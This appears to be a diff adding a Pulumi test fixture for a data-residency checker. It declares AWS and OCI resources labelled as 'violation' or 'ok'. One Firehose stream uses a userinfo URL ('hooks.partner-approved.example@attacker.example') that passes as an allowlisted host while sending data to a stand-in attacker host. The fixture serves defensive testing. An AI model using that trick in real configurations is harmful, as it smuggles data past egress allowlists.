@@ -1,0 +1,224 @@
+"""Places named in plain sight: connectors, destinations and settings whose values name where the
+data goes (issue 10, root causes 2 and 4). Trusted: AWS account 111111111111
+(`aws:allowedAccountIds`) and the OCI tenancy of `oci:tenancyOcid`. policy-config.json allows
+the egress host hooks.partner-approved.example and declares the orders database host.
+"""
+
+import json
+
+import pulumi_aws as aws
+import pulumi_oci as oci
+
+OURS = "111111111111"
+PARTNER = "999999999999"
+TENANCY = "ocid1.tenancy.oc1..aaaaaaaafixturetenancy"
+NON_PERSONAL = {"data-classification": "non-personal"}
+OCI_NON_PERSONAL = {"data-classification": "non-personal"}
+ROLE = f"arn:aws:iam::{OURS}:role/fixture-connector"
+
+# --- DMS endpoints: the database host names its region; a host alone names no owner.
+# A source database in eu-central-1, named only by its RDS host.
+# violation: residency-named-places
+aws.dms.Endpoint(
+    "dms-source-frankfurt",
+    endpoint_id="dms-source-frankfurt",
+    endpoint_type="source",
+    engine_name="postgres",
+    server_name="partner-db.c9akciq32.eu-central-1.rds.amazonaws.com",
+    port=5432,
+    database_name="orders",
+    username="replicator",
+    tags=NON_PERSONAL,
+)
+
+# The same in us-east-1, declared in policy-config.json as account 1111's.
+# ok: residency-named-places
+aws.dms.Endpoint(
+    "dms-source-declared",
+    endpoint_id="dms-source-declared",
+    endpoint_type="source",
+    engine_name="postgres",
+    server_name="orders.c9akciq32.us-east-1.rds.amazonaws.com",
+    port=5432,
+    database_name="orders",
+    username="replicator",
+    tags=NON_PERSONAL,
+)
+
+# --- Firehose HTTP endpoints and DataSync locations: partner URLs and hosts.
+backup = aws.s3.Bucket("firehose-backup", bucket="fixture-firehose-backup", tags=NON_PERSONAL)
+
+
+def http_stream(name: str, url: str) -> aws.kinesis.FirehoseDeliveryStream:
+    return aws.kinesis.FirehoseDeliveryStream(
+        name,
+        destination="http_endpoint",
+        http_endpoint_configuration={
+            "url": url,
+            "name": "partner",
+            "role_arn": ROLE,
+            # A bucket of this stack, named by its ARN (which carries no account).
+            "s3_configuration": {
+                "role_arn": ROLE,
+                "bucket_arn": "arn:aws:s3:::fixture-firehose-backup",
+            },
+        },
+        tags=NON_PERSONAL,
+    )
+
+
+# violation: residency-named-places
+http_stream("events-to-partner", "https://ingest.partner.example/v1/events")
+
+# The host is in the egress allowlist.
+# ok: residency-named-places
+http_stream("events-to-approved", "https://hooks.partner-approved.example/in")
+
+# The allowlisted host only in the userinfo: the request goes to attacker.example.
+# violation: residency-named-places
+http_stream("events-userinfo", "https://hooks.partner-approved.example@attacker.example/in")
+
+# An API Gateway host in us-east-1: a region is not an owner, and the host names none.
+# violation: residency-named-places
+http_stream("events-to-some-api", "https://k3x9q2.execute-api.us-east-1.amazonaws.com/prod/in")
+
+# --- Lambda destinations: an ARN names region and account.
+# Failures go to a queue in eu-west-1.
+# violation: residency-named-places
+# violation: residency-data-flow
+aws.lambda_.FunctionEventInvokeConfig(
+    "orders-on-failure-ireland",
+    function_name="orders",
+    destination_config={
+        "on_failure": {"destination": f"arn:aws:sqs:eu-west-1:{OURS}:orders-failures"},
+    },
+)
+
+# Successes go to a queue of account 999999999999, in us-east-1.
+# violation: residency-named-places
+aws.lambda_.FunctionEventInvokeConfig(
+    "orders-on-success-partner",
+    function_name="orders",
+    qualifier="live",
+    destination_config={
+        "on_success": {"destination": f"arn:aws:sqs:us-east-1:{PARTNER}:orders-done"},
+    },
+)
+
+# ok: residency-named-places
+aws.lambda_.FunctionEventInvokeConfig(
+    "orders-on-success",
+    function_name="orders",
+    qualifier="stable",
+    destination_config={
+        "on_success": {"destination": f"arn:aws:sqs:us-east-1:{OURS}:orders-done"},
+    },
+)
+
+# --- An Organizations backup policy that copies every backup to eu-west-1.
+# violation: residency-named-places
+aws.organizations.Policy(
+    "backup-everything-to-ireland",
+    type="BACKUP_POLICY",
+    content=json.dumps(
+        {
+            "plans": {
+                "all": {
+                    "regions": {"@@assign": ["us-east-1"]},
+                    "rules": {
+                        "daily": {
+                            "target_backup_vault_name": {"@@assign": "Default"},
+                            "copy_actions": {
+                                "arn:aws:backup:eu-west-1:$account:backup-vault:Default": {
+                                    "target_backup_vault_arn": {
+                                        "@@assign": "arn:aws:backup:eu-west-1:$account:"
+                                        "backup-vault:Default"
+                                    }
+                                }
+                            },
+                        }
+                    },
+                }
+            }
+        }
+    ),
+)
+
+# --- AWS-managed and service values are not foreign places.
+# ok: residency-named-places
+aws.iam.RolePolicyAttachment(
+    "connector-read-only",
+    role="fixture-connector",
+    policy_arn="arn:aws:iam::aws:policy/ReadOnlyAccess",
+)
+
+# An identity policy that lets our role send to a queue of account 999999999999.
+# violation: residency-named-places
+aws.iam.RolePolicy(
+    "connector-send-partner",
+    role="fixture-connector",
+    policy=json.dumps(
+        {
+            "Version": "2012-10-17",
+            "Statement": [
+                {
+                    "Effect": "Allow",
+                    "Action": "sqs:SendMessage",
+                    "Resource": f"arn:aws:sqs:us-east-1:{PARTNER}:inbox",
+                }
+            ],
+        }
+    ),
+)
+
+# ok: residency-named-places
+aws.iam.RolePolicy(
+    "connector-send-own",
+    role="fixture-connector",
+    policy=json.dumps(
+        {
+            "Version": "2012-10-17",
+            "Statement": [
+                {
+                    "Effect": "Allow",
+                    "Action": ["sqs:SendMessage", "states:StartExecution"],
+                    "Resource": [f"arn:aws:sqs:us-east-1:{OURS}:inbox", "*"],
+                }
+            ],
+        }
+    ),
+)
+
+# --- OCI: GoldenGate connections name their stream pool by OCID (its region key: fra, iad).
+# violation: residency-named-places
+oci.goldengate.Connection(
+    "ggs-stream-frankfurt",
+    compartment_id=TENANCY,
+    display_name="ggs-stream-frankfurt",
+    connection_type="KAFKA",
+    technology_type="OCI_STREAMING",
+    stream_pool_id="ocid1.streampool.oc1.fra.aaaaaaaafixturestreampool",
+    freeform_tags=OCI_NON_PERSONAL,
+)
+
+# ok: residency-named-places
+oci.goldengate.Connection(
+    "ggs-stream-ashburn",
+    compartment_id=TENANCY,
+    display_name="ggs-stream-ashburn",
+    connection_type="KAFKA",
+    technology_type="OCI_STREAMING",
+    stream_pool_id="ocid1.streampool.oc1.iad.aaaaaaaafixturestreampool",
+    freeform_tags=OCI_NON_PERSONAL,
+)
+
+# --- OCI notifications: a function subscription names the function by OCID (iad).
+# ok: residency-named-places
+oci.ons.Subscription(
+    "alerts-function",
+    compartment_id=TENANCY,
+    topic_id="ocid1.onstopic.oc1.iad.aaaaaaaafixturetopic",
+    protocol="ORACLE_FUNCTIONS",
+    endpoint="ocid1.fnfunc.oc1.iad.aaaaaaaafixturefunction",
+    freeform_tags=OCI_NON_PERSONAL,
+)
